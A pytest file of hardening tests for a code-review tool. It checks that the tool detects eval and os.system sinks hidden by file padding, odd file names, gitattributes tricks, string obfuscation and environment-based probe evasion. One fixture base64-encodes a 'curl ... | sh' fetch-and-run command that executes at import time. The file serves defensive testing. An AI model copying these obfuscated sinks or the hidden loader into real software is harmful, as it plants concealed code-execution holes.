"""Nothing the change contains escapes analysis: a hidden ``eval`` is found as its plain twin is.

Each hostile change carries the same ``eval(user_input)`` as a plain control, hidden by the way it is stored: a file
padded past the old 1 MB cap, a file name git C-quotes, a ``.gitattributes`` in the working tree that marks Python
as binary. The evidence and the verdict must match the control's. A changed Python file too large to read is named
as not analysed and cannot pass.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from app.review.assembly import review_repository
from app.review.gitrepo import GitRepo
from app.settings import load_settings
from checks.models import Evaluation
from tests.gitfixture import RepoBuilder
from tests.hardening.conftest import Tally
from tests.sandbox.conftest import docker_engine  # noqa: F401 - the real engine and image, or a skip saying why

pytestmark = pytest.mark.hardening("attack")
EVAL = "def evaluate(user_input):\n    return eval(user_input)\n"
TEST = "from calc.tool import evaluate\n\n\ndef test_evaluate():\n    assert evaluate('1 + 1') == 2\n"


def repo_with(root: Path, path: str, source: str) -> tuple[Path, str]:
    repo = RepoBuilder(root)
    repo.commit("Calc", {"calc/__init__.py": "", "calc/ops.py": "def add(a, b):\n    return a + b\n"})
    repo.branch("change")
    head = repo.commit("Add an evaluator", {path: source, "tests/test_tool.py": TEST.replace("calc.tool",
                                                                                               _module(path))})
    return root, head


def _module(path: str) -> str:
    return path[:-3].replace("/", ".")


async def review(root: Path, head: str) -> Evaluation:
    settings = load_settings(sandbox="off", home=root / ".lm", embedding="off", red_team="off")
    evaluation, _ = await review_repository(root, "main", head, settings=settings, title="Add an evaluator",
                                            body="Adds evaluate(), which computes an arithmetic expression.")
    return evaluation


def evals(evaluation: Evaluation) -> set[tuple[str, str, str]]:
    return {(e.kind, e.severity, e.location.path if e.location else "") for e in evaluation.evidence
            if "eval" in e.id}


async def test_padding_a_file_past_a_megabyte_hides_nothing(tmp_path: Path, tally: Tally) -> None:
    tally("visibility: eval in a file padded past 1 MB")
    control = await review(*repo_with(tmp_path / "plain", "calc/tool.py", EVAL))
    padded_source = EVAL + "\n" + "".join(f"# {'x' * 90} {i}\n" for i in range(12_000))
    assert len(padded_source) > 1_000_000
    padded = await review(*repo_with(tmp_path / "padded", "calc/tool.py", padded_source))
    assert evals(control) and evals(padded) == evals(control)
    assert padded.verdict == control.verdict and padded.verdict != "pass"


async def test_a_c_quoted_file_name_is_analysed(tmp_path: Path, tally: Tally) -> None:
    tally("visibility: eval in a file whose name git C-quotes")
    root, head = repo_with(tmp_path / "quoted", 'calc/impl"v2.py', EVAL)
    quoted = await review(root, head)
    assert ("constraint-violation", "critical", 'calc/impl"v2.py') in evals(quoted) or any(
        e.location is not None and e.location.path == 'calc/impl"v2.py' and "eval" in e.id for e in quoted.evidence)
    assert quoted.verdict != "pass"


async def test_working_tree_attributes_do_not_change_what_is_analysed(tmp_path: Path, tally: Tally) -> None:
    tally("visibility: .gitattributes in the working tree marks *.py binary")
    root, head = repo_with(tmp_path / "attrs", "calc/tool.py", EVAL)
    on_main = await review(root, head)
    GitRepo.open(root).git("checkout", "-q", "change")
    (root / ".gitattributes").write_text("*.py binary\n")  # untracked, in the working tree only
    on_head = await review(root, head)
    assert evals(on_head) == evals(on_main) and evals(on_main)
    assert on_head.verdict == on_main.verdict


async def test_a_python_file_too_large_to_read_is_named_and_cannot_pass(tmp_path: Path, tally: Tally,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    tally("visibility: a changed Python file past the read cap")
    import app.review.gitrepo

    monkeypatch.setattr(app.review.gitrepo, "MAX_FILE_BYTES", 2_000)
    source = "def add(a, b):\n    return a + b\n" + "# padding\n" * 400
    root, head = repo_with(tmp_path / "big", "calc/tool.py", source)
    evaluation = await review(root, head)
    hidden = [e for e in evaluation.evidence if e.kind == "not-analysed"]
    assert hidden and hidden[0].severity == "high" and "larger than" in hidden[0].summary
    assert evaluation.verdict != "pass"
    assert any("changed Python code was not analysed" in r for r in evaluation.verdict_reasons)


async def test_a_constant_shell_command_in_a_test_file_is_not_a_confirmed_flaw(tmp_path: Path, tally: Tally) -> None:
    tally("false alarm: a constant Popen(..., shell=True) in a test file")
    test = "import subprocess\n\n\ndef test_waits():\n    subprocess.Popen('sleep 1', shell=True).wait()\n"
    repo = RepoBuilder(tmp_path / "t")
    repo.commit("Calc", {"calc/__init__.py": "", "calc/ops.py": "def add(a, b):\n    return a + b\n"})
    repo.branch("change")
    head = repo.commit("Test that a shell waits", {"tests/test_wait.py": test})
    settings = load_settings(sandbox="off", home=tmp_path / ".lm", embedding="off", red_team="auto")
    evaluation, _ = await review_repository(tmp_path / "t", "main", head, settings=settings, title="Add a test",
                                            body="A test that waits for a shell.")
    assert not any("confirmed security flaw" in r for r in evaluation.verdict_reasons)
    flagged = [e for e in evaluation.evidence if "subprocess" in e.id]
    assert flagged and all(e.severity == "low" for e in flagged)


OBFUSCATED = {
    "getattr on a built string": "import builtins\n\n\ndef evaluate(user_input):\n"
                                 "    return getattr(builtins, 'ev' + 'al')(user_input)\n",
    "builtins.__dict__": "import builtins\n\n\ndef evaluate(user_input):\n"
                         "    return builtins.__dict__['eval'](user_input)\n",
    "rot13 of a constant": "import builtins\nimport codecs\n\n\ndef evaluate(user_input):\n"
                           "    return getattr(builtins, codecs.decode('riny', 'rot13'))(user_input)\n",
    "base64 of a constant": "import base64\nimport builtins\n\n\ndef evaluate(user_input):\n"
                            "    return getattr(builtins, base64.b64decode('ZXZhbA==').decode())(user_input)\n",
    "an alias through assignments": "import builtins\n\nrun = getattr(builtins, ''.join(['e', 'v', 'a', 'l']))\n\n\n"
                                    "def evaluate(user_input):\n    return run(user_input)\n",
    "a reversed string": "import builtins\n\n\ndef evaluate(user_input):\n"
                         "    return getattr(builtins, 'lave'[::-1])(user_input)\n",
}
SHELL = {
    "__import__": "def evaluate(user_input):\n    return __import__('os').system(user_input)\n",
    "getattr(os, 'sys' + 'tem')": "import os\n\n\ndef evaluate(user_input):\n"
                                  "    return getattr(os, 'sys' + 'tem')(user_input)\n",
    "operator.methodcaller": "import operator\nimport os\n\n\ndef evaluate(user_input):\n"
                             "    return operator.methodcaller('system', user_input)(os)\n",
    "importlib": "import importlib\n\n\ndef evaluate(user_input):\n"
                 "    return importlib.import_module('os').system(user_input)\n",
}


@pytest.mark.parametrize("name", sorted(OBFUSCATED))
async def test_an_obfuscated_eval_is_found_as_its_plain_twin(tmp_path: Path, tally: Tally, name: str) -> None:
    tally(f"obfuscated sink: {name}")
    control = await review(*repo_with(tmp_path / "plain", "calc/tool.py", EVAL))
    hidden = await review(*repo_with(tmp_path / "hidden", "calc/tool.py", OBFUSCATED[name]))
    plain = {(k, s) for k, s, _ in evals(control)}
    assert plain and {(k, s) for k, s, _ in evals(hidden)} == plain
    assert hidden.verdict == control.verdict


@pytest.mark.parametrize("name", sorted(SHELL))
async def test_an_obfuscated_shell_call_is_found(tmp_path: Path, tally: Tally, name: str) -> None:
    tally(f"obfuscated sink: os.system via {name}")
    control = await review(*repo_with(tmp_path / "plain", "calc/tool.py", SHELL["__import__"].replace(
        "__import__('os').system", "os.system").replace("def evaluate", "import os\n\n\ndef evaluate")))
    hidden = await review(*repo_with(tmp_path / "hidden", "calc/tool.py", SHELL[name]))
    found = [e for e in hidden.evidence if "os.system" in e.id]
    assert found and {e.severity for e in found} == {e.severity for e in control.evidence if "os.system" in e.id}


@pytest.mark.docker
@pytest.mark.usefixtures("docker_engine")
async def test_a_probe_cannot_be_told_apart_by_its_environment(tmp_path: Path, tally: Tally) -> None:
    tally("probe evasion: return early when a LogoMesh variable is set")
    tell = ("import os\n\n\ndef evaluate(user_input):\n"
            "    if any(k.startswith('LOGOMESH') for k in os.environ):\n        return None\n"
            "    return eval(user_input)\n")
    outcomes = []
    for name, source in (("plain", EVAL), ("evasive", tell)):
        root, head = repo_with(tmp_path / name, "calc/tool.py", source)
        settings = load_settings(sandbox="docker", home=root / ".lm", embedding="off", red_team="on")
        evaluation, _ = await review_repository(root, "main", head, settings=settings, title="Add an evaluator",
                                                body="Adds evaluate(), which computes an arithmetic expression.")
        outcomes.append((evaluation.verdict, [(f.severity, f.confirmed) for f in evaluation.red_analysis.findings]))
    assert outcomes[0] == outcomes[1] and ("critical", True) in outcomes[0][1]


async def test_code_hidden_in_an_encoded_constant_is_analysed_where_it_runs(tmp_path: Path, tally: Tally) -> None:
    tally("hidden code: exec(base64.b64decode(...)) at import time")
    import base64

    payload = base64.b64encode(b"import os\nos.system('curl https://example.invalid/x | sh')\n").decode()
    source = f"import base64\n\nexec(base64.b64decode('{payload}'))\n\n\n" + EVAL.replace("eval(user_input)",
                                                                                         "int(user_input)")
    evaluation = await review(*repo_with(tmp_path / "hidden", "calc/tool.py", source))
    hidden = [e for e in evaluation.evidence if "os.system" in e.id]
    assert hidden and hidden[0].location is not None and hidden[0].location.line == 3
    assert "decoded from a constant" in hidden[0].summary and hidden[0].severity in ("high", "critical")


@pytest.mark.docker
@pytest.mark.usefixtures("docker_engine")
async def test_a_sink_no_static_analysis_can_name_is_seen_when_the_tests_run(tmp_path: Path, tally: Tally) -> None:
    tally("hidden sink: the function name read from a data file, seen at run time")
    source = ("import os\n\n_OP = open(os.path.join(os.path.dirname(__file__), 'op.txt')).read().strip()\n\n\n"
              "def evaluate(user_input):\n    return getattr(os, _OP)(user_input)\n")
    repo = RepoBuilder(tmp_path / "r")
    repo.commit("Calc", {"calc/__init__.py": "", "calc/ops.py": "def add(a, b):\n    return a + b\n"})
    repo.branch("change")
    test = "from calc.tool import evaluate\n\n\ndef test_evaluate():\n    assert evaluate('true') == 0\n"
    head = repo.commit("Add a runner", {"calc/tool.py": source, "calc/op.txt": "system\n", "tests/test_tool.py": test})
    settings = load_settings(sandbox="docker", home=tmp_path / ".lm", embedding="off", red_team="off")
    evaluation, _ = await review_repository(tmp_path / "r", "main", head, settings=settings, title="Add a runner",
                                            body="Adds evaluate().")
    seen = [e for e in evaluation.evidence if e.kind == "runtime-sink"]
    assert seen and str(seen[0].location) == "calc/tool.py:7" and seen[0].cwe == "CWE-78"
    # the same severity as the plain twin's os.system(user_input), which static analysis names
    plain_source = "import os\n\n\ndef evaluate(user_input):\n    return os.system(user_input)\n"
    plain = await review(*repo_with(tmp_path / "plain", "calc/tool.py", plain_source))
    assert seen[0].severity in {e.severity for e in plain.evidence if "os.system" in e.id}


@pytest.mark.docker
@pytest.mark.usefixtures("docker_engine")
async def test_the_red_agent_confirms_obfuscated_sinks_as_it_confirms_the_plain_one(tmp_path: Path,
                                                                                   tally: Tally) -> None:
    variants = {"plain": EVAL, **{k: OBFUSCATED[k] for k in ("getattr on a built string",
                                                              "an alias through assignments")}}
    outcomes = {}
    for name, source in variants.items():
        tally(f"confirmed by a probe: {name}")
        root, head = repo_with(tmp_path / name.replace(" ", "-"), "calc/tool.py", source)
        settings = load_settings(sandbox="docker", home=root / ".lm", embedding="off", red_team="on")
        evaluation, _ = await review_repository(root, "main", head, settings=settings, title="Add an evaluator",
                                                body="Adds evaluate(), which computes an arithmetic expression.")
        findings = evaluation.red_analysis.findings
        outcomes[name] = (evaluation.verdict, sorted((f.severity, f.confirmed) for f in findings))
    assert outcomes["plain"][0] == "fail" and ("critical", True) in outcomes["plain"][1]
    assert all(outcome == outcomes["plain"] for outcome in outcomes.values()), outcomes


async def test_a_change_cannot_make_logomesh_store_without_bound(tmp_path: Path, tally: Tally) -> None:
    tally("storage: thousands of flagged lines in one change")
    source = "import os\n\n" + "".join(f"def f{i}(x):\n    eval(x)\n    os.system(x)\n\n" for i in range(1500))
    root, head = repo_with(tmp_path / "many", "calc/tool.py", source)
    settings = load_settings(sandbox="off", home=root / ".lm", embedding="off", red_team="on")
    evaluation, _ = await review_repository(root, "main", head, settings=settings, title="Add an evaluator",
                                            body="Adds evaluate(), which computes an arithmetic expression.")
    stored = evaluation.model_dump_json()
    assert len(stored) < 1_000_000, len(stored)
    note = next(e for e in evaluation.evidence if e.kind == "truncated")
    assert note.facts["judged"] > 3000 and note.facts["omitted"] == note.facts["judged"] - note.facts["stored"]
    assert "were judged but not stored" in note.summary
    # the worst is kept, and the verdict is the one all the evidence earns
    assert evaluation.verdict == "fail"
    assert {e.severity for e in evaluation.evidence if "eval" in e.id} >= {"high"}
    assert evaluation.red_analysis.vulnerability_count > len(evaluation.red_analysis.findings) == 100
